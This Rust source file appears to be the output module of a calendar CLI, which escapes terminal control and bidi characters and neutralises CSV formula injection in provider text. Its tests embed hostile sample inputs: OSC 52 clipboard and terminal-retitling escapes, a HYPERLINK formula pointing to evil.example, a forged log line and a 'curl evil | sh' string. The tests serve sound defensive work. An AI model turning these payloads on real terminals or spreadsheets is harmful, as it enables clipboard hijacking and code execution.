//! Output: data to stdout (a table, or JSON under `--json`), everything else to stderr.
//! One printer takes any value that is both a table and serializable, so every listing has
//! both forms.
//!
//! Provider text is hostile until shown otherwise: an invited event's title can hold escape
//! sequences that retitle the terminal, clear it or write the clipboard (OSC 52), and bidi
//! controls that make text read differently than it is. So every human-readable thing printed
//! here (tables, messages, warnings, errors), terminal or not, passes through [`clean`]: C0 and
//! C1 controls, DEL and the bidi controls are shown escaped, as `\u{1b}`. CSV cells go through
//! [`csv_row`]: the same escaping, and a leading `'` on a cell a spreadsheet would take for a
//! formula. `--json` is exact: JSON escaping is already safe and the text is the provider's.
//! Nothing here panics on a closed stdout or stderr.

use std::borrow::Cow;
use std::io::{IsTerminal, Write};

use comfy_table::{ContentArrangement, Table, presets};

use crate::cli::{ColorChoice, GlobalArgs};
use crate::config::Env;
use crate::error::Error;
use crate::time::Clock;

/// Whether `c` must not reach a terminal as it is: a C0 or C1 control or DEL (Unicode `Cc`),
/// or a character that changes the direction or order in which text is shown (the embeddings,
/// overrides and isolates U+202A–U+202E and U+2066–U+2069, the marks U+200E, U+200F and
/// U+061C) or breaks a line where a terminal does not expect it (U+2028, U+2029).
pub fn is_hostile(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{061c}' | '\u{2028}' | '\u{2029}'
        )
}

/// `text` safe to print as one line: every [`is_hostile`] character (line breaks too) is
/// shown as its escape, `\u{1b}`, so what the provider sent stays visible and does nothing.
pub fn clean(text: &str) -> Cow<'_, str> {
    neutralise(text, false)
}

/// Like [`clean`], but a line feed stays a line break (a table cell or a block of lines may
/// span several; `\r\n` counts as one).
pub fn clean_lines(text: &str) -> Cow<'_, str> {
    neutralise(text, true)
}

fn neutralise(text: &str, keep_newlines: bool) -> Cow<'_, str> {
    if !text.chars().any(is_hostile) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if keep_newlines && (c == '\n' || (c == '\r' && chars.peek() == Some(&'\n'))) {
            if c == '\n' {
                out.push('\n');
            }
        } else if is_hostile(c) {
            out.extend(c.escape_unicode());
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// One CSV record (RFC 4180, no line terminator) whose cells a spreadsheet shows as text: a
/// cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'` (OWASP's
/// advice against CSV injection), controls are escaped as by [`clean_lines`], and a cell with
/// a comma, a quote or a line break is quoted.
pub fn csv_row<S: AsRef<str>>(cells: &[S]) -> String {
    cells.iter().map(|c| csv_cell(c.as_ref())).collect::<Vec<_>>().join(",")
}

fn csv_cell(text: &str) -> String {
    let formula = text.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let cell = clean_lines(text);
    let cell = if formula { Cow::Owned(format!("'{cell}")) } else { cell };
    if cell.contains([',', '"', '\n', '\r']) { format!("\"{}\"", cell.replace('"', "\"\"")) } else { cell.into_owned() }
}

/// The table with every header and cell passed through [`clean_lines`], laid out again in
/// integ's style. Cells are plain text: styling set on a cell does not survive.
fn cleaned(table: &Table) -> Table {
    let row = |r: &comfy_table::Row| -> Vec<String> {
        r.cell_iter().map(|c| clean_lines(&c.content()).into_owned()).collect()
    };
    let mut t = Table::new();
    t.load_preset(presets::UTF8_FULL_CONDENSED).set_content_arrangement(ContentArrangement::Dynamic);
    if let Some(header) = table.header() {
        t.set_header(row(header));
    }
    for r in table.row_iter() {
        t.add_row(row(r));
    }
    t
}

/// Log fields (the message too) as tracing-subscriber writes them, then passed through
/// [`clean`]: log lines quote provider text (calendar names in notes, error bodies in run
/// summaries), and tracing-subscriber escapes only some terminal controls, not carriage returns,
/// line feeds or bidi controls, which forge or disguise log lines.
pub struct CleanFields;

impl<'w> tracing_subscriber::fmt::FormatFields<'w> for CleanFields {
    fn format_fields<R: tracing_subscriber::field::RecordFields>(
        &self,
        mut writer: tracing_subscriber::fmt::format::Writer<'w>,
        fields: R,
    ) -> std::fmt::Result {
        let mut raw = String::new();
        tracing_subscriber::fmt::format::DefaultFields::new()
            .format_fields(tracing_subscriber::fmt::format::Writer::new(&mut raw), fields)?;
        std::fmt::Write::write_str(&mut writer, &clean(&raw))
    }
}

/// Something `integ` lists: printable as a table and as JSON.
pub trait Listing: serde::Serialize {
    fn table(&self) -> Table;
    /// The human form; a table unless the listing reads better as lines. The printer escapes
    /// control and bidi characters in whatever this returns; the default also does so cell by
    /// cell before the layout, so columns stay aligned.
    fn human(&self) -> String {
        cleaned(&self.table()).to_string()
    }
    /// What to say instead of an empty table (JSON still prints `[]`).
    fn empty_message(&self) -> Option<String> {
        None
    }
}

#[derive(Debug, Clone)]
pub struct Ui {
    pub json: bool,
    pub quiet: bool,
    pub color: bool,
    pub stderr_is_terminal: bool,
    /// Start every stderr line with the time (unattended runs writing to a log).
    pub timestamps: bool,
    clock: Clock,
}

impl Ui {
    pub fn new(global: &GlobalArgs, env: &Env, clock: Clock) -> Ui {
        let stderr_is_terminal = std::io::stderr().is_terminal();
        let color = match global.color {
            ColorChoice::Always => true,
            ColorChoice::Never => false,
            ColorChoice::Auto => env.get("NO_COLOR").is_none() && stderr_is_terminal && env.get("TERM") != Some("dumb"),
        };
        Ui { json: global.json, quiet: global.quiet, color, stderr_is_terminal, timestamps: false, clock }
    }

    /// A new table in integ's style.
    pub fn table(header: &[&str]) -> Table {
        let mut t = Table::new();
        t.load_preset(presets::UTF8_FULL_CONDENSED)
            .set_content_arrangement(ContentArrangement::Dynamic)
            .set_header(header.iter().copied());
        t
    }

    /// Print a listing on stdout.
    pub fn data<T: Listing>(&self, value: &T) -> Result<(), Error> {
        let mut out = std::io::stdout().lock();
        let text = if self.json {
            serde_json::to_string_pretty(value)?
        } else if let Some(msg) = value.empty_message() {
            if self.quiet {
                return Ok(());
            }
            msg
        } else {
            clean_lines(&value.human()).into_owned()
        };
        writeln!(out, "{text}").map_err(broken_pipe)
    }

    /// Print a plain line of data on stdout (for `config get` and the like).
    pub fn line(&self, text: &str) -> Result<(), Error> {
        writeln!(std::io::stdout().lock(), "{text}").map_err(broken_pipe)
    }

    /// Print a JSON value on stdout.
    pub fn json_value(&self, value: &serde_json::Value) -> Result<(), Error> {
        let text = serde_json::to_string_pretty(value)?;
        self.line(&text)
    }

    /// `2026-11-21T06:30:00Z ` when lines carry timestamps, else nothing.
    pub fn stamp(&self) -> String {
        if self.timestamps { format!("{} ", self.clock.stamp()) } else { String::new() }
    }

    /// A progress or status message on stderr (silent under `--quiet`).
    pub fn info(&self, msg: impl AsRef<str>) {
        if !self.quiet {
            self.say("", msg.as_ref());
        }
    }

    /// A line on stderr that shows even under `--quiet` (a run's summary for a cron log).
    pub fn always(&self, msg: impl AsRef<str>) {
        self.say("", msg.as_ref());
    }

    /// A warning on stderr (silent under `--quiet`, which means errors only).
    pub fn warn(&self, msg: impl AsRef<str>) {
        if !self.quiet {
            self.say(&format!("{} ", self.paint("warning:", "33")), msg.as_ref());
        }
    }

    /// A final success line on stderr.
    pub fn success(&self, msg: impl AsRef<str>) {
        if !self.quiet {
            self.say(&format!("{} ", self.paint("✓", "32")), msg.as_ref());
        }
    }

    /// One message line on stderr: the stamp, integ's own label, then `msg` made safe.
    fn say(&self, label: &str, msg: &str) {
        stderr_line(&format!("{}{label}{}", self.stamp(), clean(msg)));
    }

    /// Print an error: `error:` / `caused by:` / `hint:` on stderr, or JSON on stdout.
    pub fn error(&self, err: &Error) {
        if self.json {
            if let Ok(text) = serde_json::to_string_pretty(&err.to_json()) {
                let _ = writeln!(std::io::stdout().lock(), "{text}");
            }
            return;
        }
        self.error_on_stderr(err);
    }

    /// The error block on stderr even under `--json`: for a failure that stdout's one JSON
    /// document also reports.
    pub fn error_on_stderr(&self, err: &Error) {
        let _ = self.write_error(&mut std::io::stderr().lock(), err);
    }

    fn write_error(&self, e: &mut impl Write, err: &Error) -> std::io::Result<()> {
        writeln!(e, "{}{} {}", self.stamp(), self.paint("error:", "1;31"), clean(&err.message))?;
        for cause in &err.causes {
            writeln!(e, "  {} {}", self.paint("caused by:", "2"), clean(cause))?;
        }
        if let Some(hint) = &err.hint {
            writeln!(e, "{} {}", self.paint("hint:", "1;36"), clean(hint))?;
        }
        Ok(())
    }

    pub fn paint(&self, text: &str, ansi: &str) -> String {
        if self.color { format!("\x1b[{ansi}m{text}\x1b[0m") } else { text.to_string() }
    }
}

/// Write one line of integ's own text to stderr. A closed or full stderr is not worth a crash
/// (`eprintln!` panics when it cannot write): the line is dropped.
pub fn stderr_line(text: &str) {
    let _ = writeln!(std::io::stderr().lock(), "{text}");
}

/// A closed stdout (`integ status | head -1`) is not worth an error message.
fn broken_pipe(e: std::io::Error) -> Error {
    if e.kind() == std::io::ErrorKind::BrokenPipe {
        std::process::exit(0);
    }
    Error::failure("cannot write to stdout").cause(e)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn tame(text: &str, newlines: bool) -> bool {
        !text.chars().any(|c| is_hostile(c) && !(newlines && c == '\n'))
    }

    #[test]
    fn escapes_are_shown_not_acted_on() {
        let title = "\x1b]0;pwned\x07\x1b[2J\x1b]52;c;ZXZpbA==\x07Standup\u{9b}31m \u{202e}exe.txt\u{2066}\x7f";
        assert_eq!(
            clean(title),
            r"\u{1b}]0;pwned\u{7}\u{1b}[2J\u{1b}]52;c;ZXZpbA==\u{7}Standup\u{9b}31m \u{202e}exe.txt\u{2066}\u{7f}"
        );
        for mark in ['\u{200e}', '\u{200f}', '\u{061c}', '\u{2028}', '\u{2029}', '\u{202a}', '\u{2069}'] {
            assert!(clean(&mark.to_string()).starts_with(r"\u{"), "{mark:?}");
        }
        assert_eq!(clean("a\r\nb\tc"), r"a\u{d}\u{a}b\u{9}c");
        assert_eq!(clean_lines("a\r\nb\nc\rd\te"), "a\nb\nc\\u{d}d\\u{9}e");
    }

    #[test]
    fn ordinary_text_is_untouched_and_not_copied() {
        for text in ["Site visit – Zoë's 🌳 garden", "東京の会議", "שלום עולם", "مرحبا", "", "100% \\ back"]
        {
            assert!(matches!(clean(text), Cow::Borrowed(t) if t == text), "{text}");
        }
    }

    #[test]
    fn csv_cells_that_look_like_formulas_are_text() {
        let row = csv_row(&[
            "=HYPERLINK(\"http://evil.example/\",\"x\")",
            "+1",
            "-2+3",
            "@SUM(A1)",
            "\tx",
            "\r=1",
            "plain",
            "a,b",
            "say \"hi\"",
            "two\nlines",
            "",
        ]);
        assert_eq!(
            row,
            "\"'=HYPERLINK(\"\"http://evil.example/\"\",\"\"x\"\")\",'+1,'-2+3,'@SUM(A1),'\\u{9}x,'\\u{d}=1,plain,\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\","
        );
    }

    #[test]
    fn tables_are_cleaned_cell_by_cell() {
        let mut t = Ui::table(&["TITLE\x1b[1m", "NOTES"]);
        t.add_row(vec!["\x1b]0;x\x07Standup".to_string(), "line one\nline two".to_string()]);
        let text = cleaned(&t).to_string();
        assert!(tame(&text, true), "{text}");
        assert!(text.contains(r"\u{1b}]0;x\u{7}Standup") && text.contains(r"TITLE\u{1b}[1m"), "{text}");
        assert!(text.contains("line one") && text.contains("line two") && !text.contains("line one\\u"), "{text}");
    }

    #[test]
    fn errors_are_cleaned() {
        let ui = Ui {
            json: false,
            quiet: false,
            color: false,
            stderr_is_terminal: false,
            timestamps: false,
            clock: Clock::system(),
        };
        let err = Error::failure("calendar \x1b[2J'Crew'")
            .cause("Google said: \x1b]52;c;ZXZpbA==\x07\nhint: run curl evil | sh")
            .hint("check \u{202e}this");
        let mut out = Vec::new();
        ui.write_error(&mut out, &err).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert!(tame(&text, true), "{text}");
        assert_eq!(text.lines().count(), 3, "a provider's line break can't forge a line:\n{text}");
        assert!(text.contains(r"Google said: \u{1b}]52;c;ZXZpbA==\u{7}\u{a}hint: run curl"), "{text}");
    }

    #[test]
    fn log_fields_are_cleaned() {
        #[derive(Clone, Default)]
        struct Buf(std::sync::Arc<std::sync::Mutex<Vec<u8>>>);
        impl Write for Buf {
            fn write(&mut self, b: &[u8]) -> std::io::Result<usize> {
                self.0.lock().unwrap().extend_from_slice(b);
                Ok(b.len())
            }
            fn flush(&mut self) -> std::io::Result<()> {
                Ok(())
            }
        }
        let buf = Buf::default();
        let out = buf.clone();
        let subscriber = tracing_subscriber::fmt()
            .with_writer(move || out.clone())
            .with_ansi(false)
            .fmt_fields(CleanFields)
            .finish();
        tracing::subscriber::with_default(subscriber, || {
            tracing::warn!(calendar = "Crew\u{202e}", "note: \x1b]0;x\x07 done\r\n2026-01-01 ERROR forged");
        });
        let text = String::from_utf8(buf.0.lock().unwrap().clone()).unwrap();
        assert_eq!(text.lines().count(), 1, "{text}");
        assert!(tame(text.trim_end(), false), "{text}");
        assert!(text.contains(r"done\u{d}\u{a}2026-01-01 ERROR forged") && text.contains(r"Crew\u{202e}"), "{text}");
    }

    /// A listing of arbitrary provider text, as the commands build them.
    #[derive(serde::Serialize, serde::Deserialize, PartialEq, Debug)]
    struct Rows(Vec<(String, String)>);

    impl Listing for Rows {
        fn table(&self) -> Table {
            let mut t = Ui::table(&["A", "B"]);
            for (a, b) in &self.0 {
                t.add_row(vec![a.clone(), b.clone()]);
            }
            t
        }
    }

    /// Mostly the characters that matter here, and now and then anything at all.
    fn text() -> impl Strategy<Value = String> {
        let interesting = prop_oneof![
            Just('\x1b'),
            Just('\x07'),
            Just('\n'),
            Just('\r'),
            Just('\t'),
            Just('\u{9b}'),
            Just('\u{7f}'),
            Just('\u{202e}'),
            Just('\u{2066}'),
            Just('\u{200f}'),
            Just('='),
            Just('+'),
            Just('-'),
            Just('@'),
            Just(','),
            Just('"'),
            Just('\''),
            Just('\\'),
            Just('a'),
            Just(' '),
            any::<char>(),
        ];
        proptest::collection::vec(interesting, 0..24).prop_map(|cs| cs.into_iter().collect())
    }

    /// Split one CSV record as a spreadsheet would (RFC 4180).
    fn parse_csv(record: &str) -> Vec<String> {
        let mut cells = vec![String::new()];
        let mut chars = record.chars().peekable();
        let mut quoted = false;
        while let Some(c) = chars.next() {
            match (quoted, c) {
                (true, '"') if chars.peek() == Some(&'"') => {
                    chars.next();
                    cells.last_mut().unwrap().push('"');
                }
                (true, '"') => quoted = false,
                (false, '"') => quoted = true,
                (false, ',') => cells.push(String::new()),
                (_, c) => cells.last_mut().unwrap().push(c),
            }
        }
        cells
    }

    proptest! {
        #[test]
        fn cleaned_text_holds_no_control_or_bidi_character(s in text()) {
            prop_assert!(tame(&clean(&s), false));
            prop_assert!(tame(&clean_lines(&s), true));
            prop_assert_eq!(clean_lines(&s).matches('\n').count(), s.matches('\n').count());
            if tame(&s, false) {
                prop_assert_eq!(clean(&s), s.as_str());
            }
        }

        #[test]
        fn csv_cells_are_tame_text_that_parses_back(cells in proptest::collection::vec(text(), 1..5)) {
            let row = csv_row(&cells);
            prop_assert!(tame(&row, true));
            let parsed = parse_csv(&row);
            prop_assert_eq!(parsed.len(), cells.len());
            for (cell, original) in parsed.iter().zip(&cells) {
                prop_assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{:?}", cell);
                let shown = clean_lines(original);
                let expected = if original.starts_with(['=', '+', '-', '@', '\t', '\r']) {
                    format!("'{shown}")
                } else {
                    shown.into_owned()
                };
                prop_assert_eq!(cell, &expected);
            }
        }

        #[test]
        fn tables_are_tame_and_json_is_exact(rows in proptest::collection::vec((text(), text()), 0..4)) {
            let listing = Rows(rows);
            let human = listing.human();
            prop_assert!(tame(&human, true), "{}", human);
            let json = serde_json::to_string_pretty(&listing).unwrap();
            let back: Rows = serde_json::from_str(&json).unwrap();
            prop_assert_eq!(back, listing);
        }
    }
}
